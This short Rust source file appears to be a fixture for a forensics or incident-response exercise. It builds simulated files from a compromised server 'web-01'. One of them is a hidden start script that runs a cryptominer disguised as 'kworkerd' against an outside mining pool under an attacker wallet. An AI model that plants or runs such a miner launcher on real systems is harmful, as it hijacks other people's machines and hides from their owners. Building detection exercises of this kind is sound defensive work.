//! What was copied from the disk of web-01.

use super::{ATTACKER_WALLET, File};

pub(super) fn files() -> Vec<File> {
    let start = format!(
        "#!/bin/sh\n# dropped beside the miner\ncd /tmp/.cache\n./kworkerd --algo rx/0 --url stratum+tcp://gulf.moneroocean.stream:10128 \\\n  --user {ATTACKER_WALLET} \\\n  --pass web-01 --donate-level 0 --randomx-1gb-pages\n"
    );
    vec![("disk/web-01/tmp/.cache/start.sh", start), ("disk/web-01/var/www/index.php", "<?php echo 'hello';\n".to_owned())]
}
